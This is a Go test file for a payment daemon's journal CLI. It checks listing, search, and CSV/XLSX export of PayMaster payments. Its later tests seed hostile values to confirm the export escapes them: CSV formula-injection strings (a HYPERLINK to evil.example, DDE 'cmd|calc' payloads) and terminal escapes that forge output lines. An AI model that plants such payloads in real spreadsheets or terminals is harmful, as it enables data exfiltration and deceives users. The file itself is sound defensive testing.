package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/sbpd/sbpd/drivers/export"
	"github.com/sbpd/sbpd/drivers/sqlite"
	"github.com/sbpd/sbpd/plugin"
)

var msk = time.FixedZone("MSK", 3*60*60)

// journalFixture is a data_dir with a journal of four payments, and a
// config naming it. Times show in MSK.
type journalFixture struct {
	t       *testing.T
	dataDir string
	config  string
}

func newJournalFixture(t *testing.T) *journalFixture {
	t.Helper()
	old := journalZone
	journalZone = func() *time.Location { return msk }
	t.Cleanup(func() { journalZone = old })
	dir := t.TempDir()
	fx := &journalFixture{t: t, dataDir: filepath.Join(dir, "data"), config: filepath.Join(dir, "sbpd.yaml")}
	if err := os.MkdirAll(fx.dataDir, 0o750); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(fx.config, []byte("data_dir: "+fx.dataDir+"\ntill:\n  id: K07\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return fx
}

// seed records the four fixture payments:
//
//	p1 2025-03-14 10:00 check 100234 K07-100234-1 259,90 screen paid pm-111
//	p2 2025-03-15 12:00 check 100235 K07-100235-1 120,00 print mixed not_paid insufficient_funds pm-222
//	p3 2025-03-16 09:30 check 100236 K07-100236-1 259,90 sticker needs_attention cancel_failed pm-333
//	p4 2025-03-16 18:00 check 100234 K07-100234-2 259,90 screen creating (no PayMaster id yet)
func (fx *journalFixture) seed() {
	t := fx.t
	t.Helper()
	db, err := sqlite.Open(filepath.Join(fx.dataDir, "sbpd.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	j := db.Journal()
	ctx := context.Background()
	type step struct {
		kind   string
		state  plugin.State
		detail string
	}
	add := func(id, check, order string, amount int64, mode plugin.Mode, mixed bool, at time.Time, pm string, final plugin.State, reason plugin.Reason) {
		p := &plugin.Payment{ID: id, CheckID: check, OrderNo: order, Amount: amount, Mode: mode, Mixed: mixed,
			State: plugin.StateCreating, IdempotencyKey: "key-" + id, ExpiresAt: at.Add(5 * time.Minute), CreatedAt: at, UpdatedAt: at}
		if err := j.Create(ctx, p, plugin.Event{Kind: plugin.EvCreated, At: at, Actor: "till"}); err != nil {
			t.Fatal(err)
		}
		if pm == "" {
			return
		}
		at = at.Add(time.Second)
		p.State, p.PayMasterID, p.UpdatedAt, p.QRPayload = plugin.StateAwaitingPayment, pm, at, "https://qr.nspk.ru/"+pm
		if err := j.Update(ctx, p, plugin.Event{Kind: plugin.EvRemoteCreated, At: at, Actor: "sbpd", Detail: "paymaster id " + pm}); err != nil {
			t.Fatal(err)
		}
		if final == plugin.StateAwaitingPayment {
			return
		}
		at = at.Add(30 * time.Second)
		p.State, p.Reason, p.UpdatedAt = final, reason, at
		switch final {
		case plugin.StatePaid:
			p.PayMasterStatus, p.ResultCode = "Settled", "0"
		case plugin.StateNotPaid:
			p.PayMasterStatus, p.ResultCode = "Rejected", "51"
		case plugin.StateNeedsAttention:
			p.PayMasterStatus, p.CancelRequested = "Pending", true
			p.Error = &plugin.APIError{Code: string(reason), Message: plugin.TextNeedsAttention}
		}
		kind := plugin.EvFinal
		if final == plugin.StateNeedsAttention {
			kind = plugin.EvAttention
		}
		if err := j.Update(ctx, p, plugin.Event{Kind: kind, At: at, Actor: "sbpd", Detail: string(reason)}); err != nil {
			t.Fatal(err)
		}
	}
	add("p1", "100234", "K07-100234-1", 25990, plugin.ModeScreen, false, time.Date(2025, 3, 14, 10, 0, 0, 0, msk), "pm-111", plugin.StatePaid, "")
	add("p2", "100235", "K07-100235-1", 12000, plugin.ModePrint, true, time.Date(2025, 3, 15, 12, 0, 0, 0, msk), "pm-222", plugin.StateNotPaid, plugin.ReasonInsufficientFunds)
	add("p3", "100236", "K07-100236-1", 25990, plugin.ModeSticker, false, time.Date(2025, 3, 16, 9, 30, 0, 0, msk), "pm-333", plugin.StateNeedsAttention, plugin.ReasonCancelFailed)
	add("p4", "100234", "K07-100234-2", 25990, plugin.ModeScreen, false, time.Date(2025, 3, 16, 18, 0, 0, 0, msk), "", "", "")
}

// run runs sbpd journal ARGS against the fixture and returns its output.
func (fx *journalFixture) run(args ...string) (stdout, stderr string, err error) {
	fx.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	o, e, done := runCLI(ctx, append([]string{"--config", fx.config, "journal"}, args...)...)
	err = <-done
	return o.String(), e.String(), err
}

func (fx *journalFixture) mustRun(args ...string) string {
	fx.t.Helper()
	out, errOut, err := fx.run(args...)
	if err != nil {
		fx.t.Fatalf("journal %s: %v\nstderr: %s", strings.Join(args, " "), err, errOut)
	}
	return out
}

// listIDs runs list --json with args and returns the ids in order.
func (fx *journalFixture) listIDs(args ...string) []string {
	fx.t.Helper()
	out := fx.mustRun(append([]string{"list", "--json"}, args...)...)
	var ps []plugin.Payment
	if err := json.Unmarshal([]byte(out), &ps); err != nil {
		fx.t.Fatalf("list --json %v: %v\n%s", args, err, out)
	}
	ids := []string{}
	for _, p := range ps {
		ids = append(ids, p.ID)
	}
	return ids
}

func TestJournalList_FiltersAndSearch(t *testing.T) {
	fx := newJournalFixture(t)
	fx.seed()
	for _, tc := range []struct {
		args []string
		want string
	}{
		{nil, "p4 p3 p2 p1"},
		{[]string{"--state", "paid"}, "p1"},
		{[]string{"--state", "needs_attention"}, "p3"},
		{[]string{"--state", "canceling"}, ""},
		{[]string{"--from", "2025-03-15"}, "p4 p3 p2"},
		{[]string{"--to", "2025-03-15"}, "p2 p1"}, // a date --to includes that day
		{[]string{"--from", "2025-03-15", "--to", "2025-03-15"}, "p2"},
		{[]string{"--from", "2025-03-16T09:30:00+03:00"}, "p4 p3"},
		{[]string{"--to", "2025-03-16T09:30:00+03:00"}, "p2 p1"}, // an RFC3339 --to is exclusive
		{[]string{"--from", "2025-03-16T06:00:00Z", "--to", "2025-03-16T07:00:00Z"}, "p3"},
		// Local times as reconcile reads them (refused before issue 14).
		{[]string{"--from", "2025-03-14 10:00"}, "p4 p3 p2 p1"},
		{[]string{"--from", "2025-03-14 10:00:01"}, "p4 p3 p2"},
		{[]string{"--from", "2025-03-16 09:30", "--to", "2025-03-16 18:00"}, "p3"}, // a local --to is exclusive
		{[]string{"--from", "2025-03-16T09:30"}, "p4 p3"},
		{[]string{"--mode", "0"}, "p2"},
		{[]string{"--mode", "1"}, "p4 p1"},
		{[]string{"--mode", "2"}, "p3"},
		{[]string{"--mixed", "true"}, "p2"},
		{[]string{"--mixed", "false"}, "p4 p3 p1"},
		{[]string{"--check", "100234"}, "p4 p1"},
		{[]string{"--check", "100234", "--state", "paid"}, "p1"},
		{[]string{"-q", "100236"}, "p3"},                // check id
		{[]string{"-q", "K07-100234-2"}, "p4"},          // order number
		{[]string{"-q", "pm-222"}, "p2"},                // PayMaster id
		{[]string{"-q", "p3"}, "p3"},                    // our id
		{[]string{"-q", "25990"}, "p4 p3 p1"},           // kopecks
		{[]string{"-q", "259,90"}, "p4 p3 p1"},          // roubles, comma
		{[]string{"-q", "259.90"}, "p4 p3 p1"},          // roubles, dot
		{[]string{"--query", " 120,00 "}, "p2"},         // trimmed
		{[]string{"-q", "259,90", "--mode", "2"}, "p3"}, // search and filter
		{[]string{"-q", "nothing"}, ""},
		{[]string{"--limit", "2"}, "p4 p3"},
		{[]string{"--limit", "2", "--page", "2"}, "p2 p1"},
		{[]string{"--limit", "2", "--page", "3"}, ""},
		{[]string{"--limit", "2", "--offset", "1"}, "p3 p2"},
	} {
		if got := strings.Join(fx.listIDs(tc.args...), " "); got != tc.want {
			t.Errorf("list %v = %q, want %q", tc.args, got, tc.want)
		}
	}
}

func TestJournalList_Table(t *testing.T) {
	fx := newJournalFixture(t)
	fx.seed()
	out, errOut, err := fx.run("list", "--limit", "3")
	if err != nil {
		t.Fatal(err, errOut)
	}
	want := `CREATED              CHECK   ORDER NO      AMOUNT  MODE       STATE            PAYMASTER ID  REASON
2025-03-16 18:00:00  100234  K07-100234-2  259,90  1 screen   creating         -             -
2025-03-16 09:30:00  100236  K07-100236-1  259,90  2 sticker  needs_attention  pm-333        cancel_failed
2025-03-15 12:00:00  100235  K07-100235-1  120,00  0 print    not_paid         pm-222        insufficient_funds
`
	if out != want {
		t.Errorf("table:\n%s\nwant:\n%s", out, want)
	}
	if !strings.Contains(errOut, "payments 1-3 shown; more with --page 2") {
		t.Errorf("stderr %q: want a hint about the next page", errOut)
	}
	out, errOut, err = fx.run("list", "--state", "canceling")
	if err != nil || out != "" || !strings.Contains(errOut, "no payments match") {
		t.Errorf("empty list: out %q, err %v, stderr %q", out, err, errOut)
	}
}

func TestJournalList_JSON(t *testing.T) {
	fx := newJournalFixture(t)
	fx.seed()
	out := fx.mustRun("list", "--json", "-q", "pm-222")
	var ps []map[string]any
	if err := json.Unmarshal([]byte(out), &ps); err != nil {
		t.Fatal(err, out)
	}
	if len(ps) != 1 {
		t.Fatalf("got %d payments, want 1", len(ps))
	}
	p := ps[0]
	for k, want := range map[string]any{
		"id": "p2", "check_id": "100235", "order_no": "K07-100235-1", "amount": 12000.0, "mixed": true,
		"mode": 0.0, "state": "not_paid", "state_code": 6.0, "paymaster_id": "pm-222", "reason": "insufficient_funds",
		"message": plugin.TextInsufficient, "created_at": "2025-03-15T09:00:00Z",
	} {
		if p[k] != want {
			t.Errorf("%s = %v, want %v", k, p[k], want)
		}
	}
	if out := fx.mustRun("list", "--json", "-q", "none"); strings.TrimSpace(out) != "[]" {
		t.Errorf("empty --json = %q, want []", out)
	}
}

func TestJournalShow(t *testing.T) {
	fx := newJournalFixture(t)
	fx.seed()
	for _, ref := range []string{"p3", "K07-100236-1", "pm-333"} {
		out := fx.mustRun("show", ref)
		for _, want := range []string{
			"id:                p3\n", "check:             100236\n", "order no:          K07-100236-1\n", "till:              K07\n",
			"amount:            259,90 RUB (25990 kopecks)\n", "mode:              2 sticker\n",
			"state:             needs_attention (7)\n", "reason:            cancel_failed\n",
			"paymaster status:  Pending\n", "cancel requested:  true\n",
			"created:           2025-03-16 09:30:00 +03:00\n",
			"events (3):\n",
			"2025-03-16 09:30:00.000  created          creating          till   -\n",
			"2025-03-16 09:30:01.000  remote_created   awaiting_payment  sbpd   paymaster id pm-333\n",
			"2025-03-16 09:30:31.000  needs_attention  needs_attention   sbpd   cancel_failed\n",
		} {
			if !strings.Contains(out, want) {
				t.Errorf("show %s: missing %q in\n%s", ref, want, out)
			}
		}
	}
	out := fx.mustRun("show", "K07-100234-1", "--json")
	var v struct {
		Payment plugin.Payment `json:"payment"`
		TillID  string         `json:"till_id"`
		Events  []plugin.Event `json:"events"`
	}
	if err := json.Unmarshal([]byte(out), &v); err != nil {
		t.Fatal(err, out)
	}
	if v.Payment.ID != "p1" || v.Payment.State != plugin.StatePaid || v.TillID != "K07" || len(v.Events) != 3 ||
		v.Events[2].Kind != plugin.EvFinal || v.Events[0].Actor != "till" {
		t.Errorf("show --json = %+v", v)
	}
}

func TestJournal_BadInput(t *testing.T) {
	fx := newJournalFixture(t)
	// No journal yet: a read command says so and does not create one.
	for _, args := range [][]string{{"list"}, {"show", "p1"}, {"export", "--format", "csv"}} {
		_, _, err := fx.run(args...)
		if err == nil || !strings.Contains(err.Error(), "no journal at") {
			t.Errorf("%v without a journal: %v", args, err)
		}
	}
	if _, err := os.Stat(filepath.Join(fx.dataDir, "sbpd.db")); !os.IsNotExist(err) {
		t.Fatalf("a read command created the journal: %v", err)
	}
	fx.seed()
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"list", "--state", "done"}, `--state "done": not a state: use one of creating, awaiting_payment, status_unknown, canceling, paid, not_paid, needs_attention`},
		{[]string{"list", "--from", "14.03.2025"}, `--from "14.03.2025": not a time: use ` + plugin.TimeFormats},
		{[]string{"list", "--to", "yesterday"}, `--to "yesterday": not a time`},
		{[]string{"list", "--from", "2025-03-16", "--to", "2025-03-15"}, `--from "2025-03-16" is not before --to "2025-03-15": the period`},
		{[]string{"list", "--from", "2025-03-14 25:00"}, `--from "2025-03-14 25:00": not a time`},
		{[]string{"list", "--check", strings.Repeat("1", 65)}, `--check "` + strings.Repeat("1", 65) + `": use at most 64 characters`},
		{[]string{"export", "--format", "csv", "--to", "x"}, `--to "x": not a time`},
		{[]string{"list", "--mode", "3"}, `--mode "3": not a mode: use 0 (print), 1 (screen) or 2 (sticker)`},
		{[]string{"list", "--mixed", "maybe"}, `--mixed "maybe": use true or false`},
		{[]string{"list", "--limit", "0"}, `--limit "0": use a whole number from 1 to 1000`},
		{[]string{"list", "--limit", "1001"}, `--limit "1001": use a whole number from 1 to 1000`},
		{[]string{"list", "--page", "0"}, `--page "0": use a whole number from 1 to 201 (50 payments a page;`},
		{[]string{"list", "--page", "368934881474191034", "--limit", "50"}, `--page "368934881474191034": use a whole number from 1 to 201`},
		{[]string{"list", "--page", "9223372036854775807"}, `--page "9223372036854775807": use a whole number from 1 to 201`},
		{[]string{"list", "--page", "2", "--offset", "5"}, "--page and --offset both given"},
		{[]string{"list", "--offset", "-1"}, `--offset "-1": use a whole number from 0 to 10000`},
		{[]string{"list", "--offset", "10001"}, `--offset "10001": use a whole number from 0 to 10000 (deeper pages cost the journal every row before them: narrow the period with from/to)`},
		{[]string{"list", "--limit", "1000", "--page", "12"}, `--page "12": use a whole number from 1 to 11 (1000 payments a page;`},
		{[]string{"show", "nope"}, `no payment with id, order number or PayMaster id "nope"`},
		{[]string{"show"}, "accepts 1 arg(s)"},
		{[]string{"export"}, `--format "": use csv or xlsx`},
		{[]string{"export", "--format", "pdf"}, `--format "pdf": use csv or xlsx`},
		{[]string{"export", "--format", "csv", "-o", filepath.Join(fx.dataDir, "missing", "x.csv")}, "-o "},
	} {
		_, _, err := fx.run(tc.args...)
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%v: error %v, want it to contain %q", tc.args, err, tc.want)
		}
	}
}

const csvHeader = "created_at,updated_at,id,till_id,check_id,order_no,paymaster_id,amount_rub,amount_kopecks,mode,mixed,state,state_code,paymaster_status,result_code,reason,error,cancel_requested,cancel_sent,late_settle\n"

func TestJournalExport_CSV(t *testing.T) {
	fx := newJournalFixture(t)
	fx.seed()
	want := csvHeader +
		"2025-03-14T10:00:00+03:00,2025-03-14T10:00:31+03:00,p1,K07,100234,K07-100234-1,pm-111,259.90,25990,1,false,paid,5,Settled,0,,,false,false,false\n" +
		"2025-03-15T12:00:00+03:00,2025-03-15T12:00:31+03:00,p2,K07,100235,K07-100235-1,pm-222,120.00,12000,0,true,not_paid,6,Rejected,51,insufficient_funds,,false,false,false\n" +
		"2025-03-16T09:30:00+03:00,2025-03-16T09:30:31+03:00,p3,K07,100236,K07-100236-1,pm-333,259.90,25990,2,false,needs_attention,7,Pending,,cancel_failed,cancel_failed: " + plugin.TextNeedsAttention + ",true,false,false\n" +
		"2025-03-16T18:00:00+03:00,2025-03-16T18:00:00+03:00,p4,K07,100234,K07-100234-2,,259.90,25990,1,false,creating,1,,,,,false,false,false\n"
	if got := fx.mustRun("export", "--format", "csv"); got != want {
		t.Errorf("csv to stdout:\n%s\nwant:\n%s", got, want)
	}
	// Filters as list's, to a file.
	path := filepath.Join(t.TempDir(), "paid.csv")
	_, errOut, err := fx.run("export", "--format", "csv", "-o", path, "-q", "259,90", "--from", "2025-03-16")
	if err != nil {
		t.Fatal(err, errOut)
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(want, "\n")
	if got, want := string(b), csvHeader+lines[3]+"\n"+lines[4]+"\n"; got != want {
		t.Errorf("csv -o:\n%s\nwant:\n%s", got, want)
	}
	if !strings.Contains(errOut, "exported 2 payments to "+path) || strings.Contains(errOut, "\r") {
		t.Errorf("stderr %q: want the count and no progress bar (not a terminal)", errOut)
	}
	// An empty selection is the header alone.
	if got := fx.mustRun("export", "--format", "csv", "--state", "canceling"); got != csvHeader {
		t.Errorf("empty csv = %q", got)
	}
}

func TestJournalExport_XLSX(t *testing.T) {
	fx := newJournalFixture(t)
	fx.seed()
	path := filepath.Join(t.TempDir(), "all.xlsx")
	fx.mustRun("export", "--format", "xlsx", "-o", path)
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(export.Sheet)
	if err != nil {
		t.Fatal(err)
	}
	// The same cells as the CSV export, as the spreadsheet shows them.
	csvOut := fx.mustRun("export", "--format", "csv")
	recs, err := csv.NewReader(strings.NewReader(csvOut)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(recs) {
		t.Fatalf("xlsx has %d rows, csv %d", len(rows), len(recs))
	}
	for r := range recs {
		for c := range recs[r] {
			want := recs[r][c]
			if r > 0 {
				switch c {
				case 0, 1: // a date-time cell shown in local time
					tm, _ := time.Parse(time.RFC3339, want)
					want = tm.Format("2006-01-02 15:04:05")
				case 10, 17, 18, 19:
					want = strings.ToUpper(want)
				}
			}
			got := ""
			if c < len(rows[r]) {
				got = rows[r][c]
			}
			if got != want {
				t.Errorf("cell row %d col %d (%s) = %q, want %q", r+1, c+1, export.Header[c], got, want)
			}
		}
	}
	// Every cell's type: the times and numbers are numbers, the flags
	// booleans, the rest text (an empty text is no cell); the times and
	// the amount carry their number formats.
	for r := 2; r <= len(recs); r++ {
		for c := range export.Header {
			cell, _ := excelize.CoordinatesToCellName(c+1, r)
			want, format := excelize.CellTypeInlineString, ""
			switch c {
			case 0, 1:
				want, format = excelize.CellTypeNumber, "yyyy-mm-dd hh:mm:ss"
			case 7:
				want, format = excelize.CellTypeNumber, "0.00"
			case 8, 9, 12:
				want = excelize.CellTypeNumber
			case 10, 17, 18, 19:
				want = excelize.CellTypeBool
			default:
				if recs[r-1][c] == "" {
					want = excelize.CellTypeUnset
				}
			}
			typ, _ := f.GetCellType(export.Sheet, cell)
			if typ == excelize.CellTypeUnset && want == excelize.CellTypeNumber {
				typ = excelize.CellTypeNumber // no t= is a number
			}
			if typ != want {
				t.Errorf("%s (%s) type %v, want %v", cell, export.Header[c], typ, want)
			}
			idx, _ := f.GetCellStyle(export.Sheet, cell)
			st, err := f.GetStyle(idx)
			got := ""
			if err == nil && st.CustomNumFmt != nil {
				got = *st.CustomNumFmt
			}
			if got != format {
				t.Errorf("%s (%s) number format %q, want %q", cell, export.Header[c], got, format)
			}
		}
	}
	// One sheet, its header row frozen, the two times 20 wide.
	if sheets := f.GetSheetList(); len(sheets) != 1 || sheets[0] != export.Sheet {
		t.Errorf("sheets %q", sheets)
	}
	if p, err := f.GetPanes(export.Sheet); err != nil || !p.Freeze || p.YSplit != 1 || p.TopLeftCell != "A2" {
		t.Errorf("panes %+v, %v: want the header row frozen", p, err)
	}
	for _, col := range []string{"A", "B"} {
		if w, err := f.GetColWidth(export.Sheet, col); err != nil || w != 20 {
			t.Errorf("column %s width %v, %v; want 20", col, w, err)
		}
	}
	// The amount is a number cell, exactly the decimal, shown with two decimals.
	for cell, want := range map[string]string{"H2": "259.9", "H3": "120", "H4": "259.9"} {
		raw, err := f.GetCellValue(export.Sheet, cell, excelize.Options{RawCellValue: true})
		if err != nil || raw != want {
			t.Errorf("raw %s = %q, %v; want %q", cell, raw, err, want)
		}
		typ, _ := f.GetCellType(export.Sheet, cell)
		if typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
			t.Errorf("%s type %v, want a number", cell, typ)
		}
		style, _ := f.GetCellStyle(export.Sheet, cell)
		st, err := f.GetStyle(style)
		if err != nil || st.CustomNumFmt == nil || *st.CustomNumFmt != "0.00" {
			t.Errorf("%s style %+v, %v: want number format 0.00", cell, st, err)
		}
	}
	if v, _ := f.GetCellValue(export.Sheet, "H3"); v != "120.00" {
		t.Errorf("H3 shows %q, want 120.00", v)
	}
	if raw, _ := f.GetCellValue(export.Sheet, "I2", excelize.Options{RawCellValue: true}); raw != "25990" {
		t.Errorf("I2 = %q, want 25990", raw)
	}

	// An empty selection is the header row alone.
	empty := filepath.Join(t.TempDir(), "empty.xlsx")
	fx.mustRun("export", "--format", "xlsx", "-o", empty, "--state", "canceling")
	f2, err := excelize.OpenFile(empty)
	if err != nil {
		t.Fatal(err)
	}
	defer f2.Close()
	if rows, _ := f2.GetRows(export.Sheet); len(rows) != 1 || strings.Join(rows[0], ",")+"\n" != csvHeader {
		t.Errorf("empty xlsx rows %v", rows)
	}
	// To standard output when it is not a terminal.
	out := fx.mustRun("export", "--format", "xlsx", "--check", "100235")
	f3, err := excelize.OpenReader(bytes.NewReader([]byte(out)))
	if err != nil {
		t.Fatal(err)
	}
	defer f3.Close()
	if v, _ := f3.GetCellValue(export.Sheet, "C2"); v != "p2" {
		t.Errorf("xlsx on stdout C2 = %q, want p2", v)
	}
}

// TestJournalExport_Streams exports more rows than any batch and checks
// that Each hands them over one at a time from a cursor: a consumer that
// stops early gets exactly as many as it asked for.
func TestJournalExport_Streams(t *testing.T) {
	fx := newJournalFixture(t)
	db, err := sqlite.Open(filepath.Join(fx.dataDir, "sbpd.db"))
	if err != nil {
		t.Fatal(err)
	}
	j := db.Journal()
	ctx := context.Background()
	const n = 3000
	start := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	for i := range n {
		at := start.Add(time.Duration(i) * time.Minute)
		p := &plugin.Payment{ID: fmt.Sprintf("s%05d", i), CheckID: fmt.Sprint(200000 + i), OrderNo: fmt.Sprintf("K07-%d-1", 200000+i),
			Amount: int64(100 + i), Mode: plugin.ModeScreen, State: plugin.StatePaid, CreatedAt: at, UpdatedAt: at}
		if err := j.Create(ctx, p, plugin.Event{Kind: plugin.EvCreated, At: at}); err != nil {
			t.Fatal(err)
		}
	}
	seen := 0
	stop := fmt.Errorf("enough")
	err = j.Each(ctx, plugin.Filter{}, func(p *plugin.Payment) error {
		if want := fmt.Sprintf("s%05d", seen); p.ID != want {
			t.Fatalf("row %d is %s, want %s (oldest first)", seen, p.ID, want)
		}
		seen++
		if seen == 10 {
			return stop
		}
		return nil
	})
	if err != stop || seen != 10 {
		t.Fatalf("Each stopped with %v after %d rows", err, seen)
	}
	if c, err := j.Count(ctx, plugin.Filter{From: start.Add(time.Hour)}); err != nil || c != n-60 {
		t.Fatalf("Count = %d, %v; want %d", c, err, n-60)
	}
	db.Close()

	out := fx.mustRun("export", "--format", "csv")
	if lines := strings.Count(out, "\n"); lines != n+1 {
		t.Fatalf("export has %d lines, want %d", lines, n+1)
	}
	if !strings.Contains(out, "\n2025-01-03T01:59:00+03:00,") || !strings.HasSuffix(out, ",false,false,false\n") {
		t.Errorf("export tail: %q", out[len(out)-200:])
	}
}

// Hostile texts: what a till, PayMaster or a tampered journal could leave
// in a payment's fields.
const (
	evilTitle = "\x1b]0;pwned\x07"         // sets the terminal's title
	evilLine  = "\x1b[2K\rFAKE: paid OK\n" // erases the line and writes another
	evilCode  = evilTitle + evilLine
	evilBidi  = "\u202egnp.exe\u2066\u009b31m\x7f" // reverses the text, a C1 CSI, DEL
)

// seedHostile records four payments whose fields start formulas or hold
// terminal escapes:
//
//	h1 check =HYPERLINK(…), order @SUM…, result code and reason with ESC/BEL, not_paid
//	h2 check +cmd|calc!A0, order -2+3+cmd…, PayMaster id @pm, -1,50 ₽, result code -1, paid
//	h3 check @SUM(1+1), PayMaster id and status starting with tab and CR, bidi error, needs_attention
//	h4 check -5, order starting with a tab, creating
func (fx *journalFixture) seedHostile() {
	t := fx.t
	t.Helper()
	db, err := sqlite.Open(filepath.Join(fx.dataDir, "sbpd.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	j := db.Journal()
	ctx := context.Background()
	at := time.Date(2025, 4, 1, 10, 0, 0, 0, msk)
	add := func(p *plugin.Payment, final plugin.Event) {
		t.Helper()
		at = at.Add(time.Hour)
		state := p.State
		p.State, p.IdempotencyKey, p.CreatedAt, p.UpdatedAt = plugin.StateCreating, "key-"+p.ID, at, at
		if err := j.Create(ctx, &plugin.Payment{ID: p.ID, CheckID: p.CheckID, OrderNo: p.OrderNo, Amount: p.Amount,
			State: plugin.StateCreating, IdempotencyKey: p.IdempotencyKey, CreatedAt: at, UpdatedAt: at},
			plugin.Event{Kind: plugin.EvCreated, At: at, Actor: "till"}); err != nil {
			t.Fatal(err)
		}
		if state == plugin.StateCreating {
			return
		}
		p.State, p.UpdatedAt = state, at.Add(time.Second)
		final.At = p.UpdatedAt
		if err := j.Update(ctx, p, final); err != nil {
			t.Fatal(err)
		}
	}
	add(&plugin.Payment{ID: "h1", CheckID: `=HYPERLINK("http://evil.example/?"&A1,"click")`, OrderNo: `@SUM(1+1)*cmd|' /C calc'!A0`,
		Amount: 25990, State: plugin.StateNotPaid, PayMasterID: "pm-h1", PayMasterStatus: "Rejected", ResultCode: evilCode,
		Reason: plugin.Reason("\x1b[32mpaid\x1b[0m")},
		plugin.Event{Kind: plugin.EvFinal, Actor: "sbpd", Detail: "PayMaster says Rejected/" + evilCode})
	add(&plugin.Payment{ID: "h2", CheckID: "+cmd|calc!A0", OrderNo: "-2+3+cmd|' /C calc'!A0", Amount: -150,
		State: plugin.StatePaid, PayMasterID: "@pm", PayMasterStatus: "Settled", ResultCode: "-1"},
		plugin.Event{Kind: plugin.EvFinal, Actor: "sbpd"})
	add(&plugin.Payment{ID: "h3", CheckID: "@SUM(1+1)", OrderNo: "K07-@SUM(1+1)-1", Amount: 100,
		State: plugin.StateNeedsAttention, PayMasterID: "\tpm-h3", PayMasterStatus: "\rSettled", QRPayload: "https://qr.nspk.ru/" + evilTitle,
		Error: &plugin.APIError{Code: "cancel_failed", Message: evilBidi}},
		plugin.Event{Kind: plugin.EvAttention, Actor: "\x1b[8m", Detail: evilBidi})
	add(&plugin.Payment{ID: "h4", CheckID: "-5", OrderNo: "\t=1+1", Amount: 100, State: plugin.StateCreating}, plugin.Event{})
}

// rawControl says what in s could act on a terminal or a reader's eye: a C0
// control other than newline, DEL, a C1 control, a bidi or other format
// character, a line separator, a byte that is not UTF-8. "" when none.
func rawControl(s string) string {
	for i, r := range s {
		switch {
		case r == utf8.RuneError && !strings.HasPrefix(s[i:], "\uFFFD"):
			return fmt.Sprintf("byte %#x at %d (not UTF-8)", s[i], i)
		case r == '\n':
		case r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == 0x2028 || r == 0x2029 || unicode.Is(unicode.Cf, r):
			return fmt.Sprintf("%U at %d", r, i)
		}
	}
	return ""
}

// numberCell is a cell a spreadsheet reads as a number, never a formula.
var numberCell = regexp.MustCompile(`^[-+]?[0-9]+([.,][0-9]+)?$`)

func TestJournalExport_CSVFormulaInjection(t *testing.T) {
	fx := newJournalFixture(t)
	fx.seedHostile()
	out := fx.mustRun("export", "--format", "csv")
	if why := rawControl(out); why != "" {
		t.Errorf("csv holds a raw %s:\n%q", why, out)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err, out)
	}
	if len(recs) != 5 || strings.Count(out, "\n") != 5 {
		t.Fatalf("csv has %d records on %d lines, want 5 on 5:\n%s", len(recs), strings.Count(out, "\n"), out)
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !numberCell.MatchString(cell) {
				t.Errorf("%s %s = %q starts a formula", rec[col["id"]], recs[0][i], cell)
			}
		}
	}
	byID := map[string][]string{}
	for _, rec := range recs[1:] {
		byID[rec[col["id"]]] = rec
	}
	for _, tc := range []struct{ id, column, want string }{
		// Text that could start a formula gets a leading quote; the rest
		// of the value is as recorded.
		{"h1", "check_id", `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"h1", "order_no", `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{"h2", "check_id", "'+cmd|calc!A0"},
		{"h2", "order_no", "'-2+3+cmd|' /C calc'!A0"},
		{"h2", "paymaster_id", "'@pm"},
		{"h3", "check_id", "'@SUM(1+1)"},
		{"h3", "till_id", "K07"},
		// A tab or CR is escaped, so it no longer starts the cell.
		{"h3", "paymaster_id", `\x09pm-h3`},
		{"h3", "paymaster_status", `\x0dSettled`},
		{"h4", "order_no", `\x09=1+1`},
		// Numbers stay numbers: a negative amount, a negative result code,
		// a check id that is a number.
		{"h2", "amount_rub", "-1.50"},
		{"h2", "amount_kopecks", "-150"},
		{"h2", "result_code", "-1"},
		{"h4", "check_id", "-5"},
		{"h1", "amount_rub", "259.90"},
		{"h1", "amount_kopecks", "25990"},
		// Terminal escapes are written out visibly.
		{"h1", "result_code", `\x1b]0;pwned\x07\x1b[2K\x0dFAKE: paid OK\x0a`},
		{"h1", "reason", `\x1b[32mpaid\x1b[0m`},
		{"h3", "error", `cancel_failed: \u202egnp.exe\u2066\u009b31m\x7f`},
	} {
		if got := byID[tc.id][col[tc.column]]; got != tc.want {
			t.Errorf("%s %s = %q, want %q", tc.id, tc.column, got, tc.want)
		}
	}
}

func TestJournal_TerminalEscapes(t *testing.T) {
	fx := newJournalFixture(t)
	fx.seedHostile()
	clean := func(what, out string) {
		t.Helper()
		if why := rawControl(out); why != "" {
			t.Errorf("%s prints a raw %s:\n%q", what, why, out)
		}
		for _, line := range strings.Split(out, "\n") {
			if strings.HasPrefix(line, "FAKE") {
				t.Errorf("%s: a forged line %q", what, line)
			}
		}
	}

	// The table: one line per payment, the escapes visible.
	out := fx.mustRun("list")
	clean("list", out)
	if n := strings.Count(out, "\n"); n != 5 {
		t.Errorf("list has %d lines, want the header and 4:\n%s", n, out)
	}
